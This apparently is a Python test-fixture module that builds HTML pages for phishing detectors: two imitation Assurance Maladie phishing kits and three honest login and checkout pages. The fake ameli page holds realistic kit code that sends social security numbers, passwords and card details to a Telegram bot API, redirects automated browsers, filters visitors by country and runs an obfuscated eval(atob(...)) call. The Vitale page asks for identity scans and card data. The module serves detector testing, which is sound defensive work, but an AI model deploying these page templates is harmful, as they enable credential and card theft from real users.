"""Web pages built at test time: phishing kits seen in the Assurance Maladie's name, and honest pages.

Each builder returns the HTML (``str``) of one page; the address is given separately, as a user would.
Pages are written the way kits and genuine sites are (hot-linked logos, step-by-step forms, placeholders
instead of labels, scripts that post to a bot), not reduced to the phrases the detectors look for.
"""

from __future__ import annotations

# A token of the shape Telegram gives to bots (digits, colon, 35 characters): a fake one, never valid.
BOT_TOKEN = "7012345678:AAF4kq9xZ-2bN1t7Yw0cVd3uLm8PpQsRt5E"
BOT_ID = "7012345678"

KIT_URL = "https://ameli-assure-compte.com/PortailAS/connexion.php"
VITALE_URL = "https://carte-vitale-renouvellement.com/commande/"
OFFICIAL_URL = "https://assure.ameli.fr/PortailAS/appmanager/PortailAS/assure?_somtc=true"
MUTUAL_URL = "https://espace-adherent.mutuelle-horizon-sante.fr/connexion"


def fake_ameli_login() -> str:
    """A fake compte ameli login: NIR and password, then card number, expiry and CVV, all sent to a Telegram bot."""
    return f"""<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8">
<title>Connexion à mon compte ameli - ameli, site de l'Assurance Maladie en ligne | ameli.fr</title>
<link rel="icon" href="https://www.ameli.fr/sites/default/files/favicon.ico">
<link rel="stylesheet" href="https://assure.ameli.fr/PortailAS/css/portail.css">
<script src="https://code.jquery.com/jquery-3.6.0.min.js"></script>
</head><body>
<header class="bandeau">
<img src="https://assure.ameli.fr/PortailAS/img/logo-ameli.png" alt="ameli.fr - l'Assurance Maladie">
</header>
<main>
<div id="etape1" class="step">
  <h1>Mon compte ameli</h1>
  <p>Pour accéder à votre compte, saisissez votre numéro de sécurité sociale et votre code confidentiel.</p>
  <form id="login" action="#" method="post">
    <input type="text" name="nir" maxlength="13" placeholder="Numéro de sécurité sociale (13 chiffres)">
    <input type="password" name="pass" placeholder="Mot de passe">
    <button type="submit">Je me connecte</button>
  </form>
</div>
<div id="etape2" class="step" style="display:none">
  <h2>Vérification de votre identité</h2>
  <p>Afin de recevoir votre remboursement de 48,70 €, confirmez la carte bancaire sur laquelle il sera versé.</p>
  <form id="carte" action="https://api.telegram.org/bot{BOT_TOKEN}/sendMessage" method="post">
    <input type="hidden" name="chat_id" value="-100987654321">
    <input type="text" name="ccnum" autocomplete="cc-number" placeholder="Numéro de carte">
    <input type="text" name="exp" placeholder="MM/AA">
    <input type="text" name="cvv" maxlength="3" placeholder="Cryptogramme visuel">
    <button type="submit">Valider</button>
  </form>
  <p><img src="img/secure-payment-badge.png" alt="Paiement 100% sécurisé"> Verified by Visa</p>
</div>
</main>
<script>
var t = "{BOT_TOKEN}";
if (navigator.webdriver) {{ window.location = "https://www.google.fr"; }}
$.getJSON("https://ipapi.co/json/", function (d) {{
  if (d.country_code !== "FR") {{ location.href = "https://www.ameli.fr"; }} }});
$("#login").on("submit", function (e) {{ e.preventDefault();
  fetch("https://api.telegram.org/bot" + t + "/sendMessage?chat_id=-100987654321&text=" + $(this).serialize());
  $("#etape1").hide(); $("#etape2").show(); }});
eval(atob("Y29uc29sZS5sb2coJ29rJyk="));
</script>
<footer>© 2024 Assurance Maladie - <a href="https://www.ameli.fr/assure/mentions-legales">Mentions légales</a></footer>
</body></html>"""


def fake_vitale_order() -> str:
    """A fake carte Vitale order page: ID scan, utility bill, then a 1,99 € shipping fee by card."""
    return """<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><title>Commande de votre nouvelle carte Vitale</title>
<link rel="stylesheet" href="css/style.css"></head><body>
<div class="header"><img src="images/logo_assurance_maladie.svg" alt="Assurance Maladie"></div>
<h1>Renouvellement de votre carte Vitale</h1>
<p>Votre carte Vitale arrive à expiration. Pour recevoir gratuitement votre nouvelle carte, complétez les étapes
suivantes. Seuls les frais d'envoi de 1,99 € restent à votre charge.</p>
<form action="upload.php" method="post" enctype="multipart/form-data">
  <fieldset><legend>1. Vos documents</legend>
  <label for="cni">Scan de votre pièce d'identité (recto verso)</label>
  <input type="file" id="cni" name="document1" accept="image/*,.pdf">
  <label for="domicile">Justificatif de domicile de moins de 3 mois (facture d'électricité, de gaz...)</label>
  <input type="file" id="domicile" name="document2" accept="image/*,.pdf">
  </fieldset>
  <fieldset><legend>2. Paiement des frais d'envoi : 1,99 €</legend>
  <input type="text" name="titulaire" placeholder="Nom du titulaire">
  <input type="text" name="cardnumber" placeholder="Numéro de carte bancaire">
  <input type="text" name="expiration" placeholder="Date d'expiration (MM/AA)">
  <input type="text" name="cvc" placeholder="CVV">
  </fieldset>
  <button type="submit">Commander ma carte Vitale</button>
</form>
<p class="secure">Paiement sécurisé SSL</p>
</body></html>"""


def official_login() -> str:
    """The genuine compte ameli login page (assure.ameli.fr): NIR and password, posted to itself."""
    return """<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8">
<title>Connexion à mon compte ameli - ameli, site de l'Assurance Maladie en ligne | ameli.fr</title>
<link rel="icon" href="/PortailAS/favicon.ico"><link rel="stylesheet" href="/PortailAS/css/portail.css">
</head><body>
<header><a href="https://www.ameli.fr"><img src="/PortailAS/img/logo-ameli.png" alt="ameli.fr"></a></header>
<h1>Mon compte ameli</h1>
<form action="/PortailAS/appmanager/PortailAS/assure?_nfpb=true&amp;_pageLabel=as_login_page" method="post">
  <label for="connexioncompte_2nir_as">Numéro de sécurité sociale</label>
  <input type="text" id="connexioncompte_2nir_as" name="connexioncompte_2numSecuriteSociale" maxlength="13">
  <label for="connexioncompte_2codeConfidentiel">Mot de passe</label>
  <input type="password" id="connexioncompte_2codeConfidentiel" name="connexioncompte_2codeConfidentiel">
  <input type="submit" value="Je me connecte">
</form>
<p><a href="/PortailAS/appmanager/PortailAS/assure?_pageLabel=as_mdp_oublie_page">Mot de passe oublié ?</a>
<a href="https://franceconnect.gouv.fr/">S'identifier avec FranceConnect</a></p>
<footer><a href="https://www.facebook.com/ameli">Facebook</a> <a href="https://www.youtube.com/@ameli">YouTube</a>
<a href="https://www.ameli.fr/assure/mentions-legales">Mentions légales</a></footer>
</body></html>"""


def mutual_login() -> str:
    """A mutual insurer's honest login page: it names the Sécurité sociale, asks for a member number and password."""
    return """<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><title>Espace adhérent - Mutuelle Horizon Santé</title>
<link rel="icon" href="/favicon.ico"></head><body>
<nav>Accueil | Nos garanties | Vos remboursements Sécurité sociale et mutuelle | Contact</nav>
<h1>Connexion à votre espace adhérent</h1>
<p>Suivez vos remboursements : la part de l'Assurance Maladie et celle de votre mutuelle, sur un seul relevé.</p>
<form action="/connexion" method="post">
  <label for="adh">Numéro d'adhérent</label><input id="adh" name="numero_adherent">
  <label for="pwd">Mot de passe</label><input id="pwd" type="password" name="password">
  <input type="submit" value="Se connecter">
</form>
<p><a href="/mot-de-passe-oublie">Mot de passe oublié ?</a> · <a href="https://www.ameli.fr">ameli.fr</a>
· Votre carte de tiers payant est disponible dans votre espace.</p>
<p>Service adhérents : <a href="tel:+33140000000">01 40 00 00 00</a> ·
<a href="mailto:adherents@mutuelle-horizon-sante.fr">adherents@mutuelle-horizon-sante.fr</a></p>
</body></html>"""


SHOP_URL = "https://www.lesjardinsdelou.fr/commande/paiement"


def shop_checkout() -> str:
    """An honest small shop's checkout: a card form, a small amount and the usual security badges."""
    return """<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><title>Paiement - Les Jardins de Lou</title></head><body>
<h1>Finaliser ma commande</h1>
<p>Total à payer : 3,90 € (frais de port offerts dès 30 €). Saisissez les informations de votre carte bancaire.</p>
<form action="https://paiement.lesjardinsdelou.fr/pay" method="post">
  <label for="cc">Numéro de carte</label><input id="cc" name="cardnumber" autocomplete="cc-number">
  <label for="exp">Date d'expiration</label><input id="exp" name="exp" autocomplete="cc-exp">
  <label for="cvc">Cryptogramme</label><input id="cvc" name="cvc" autocomplete="cc-csc">
  <button>Payer 3,90 €</button>
</form>
<p><img src="/img/paiement-securise.png" alt="Paiement 100% sécurisé"> Verified by Visa</p>
</body></html>"""
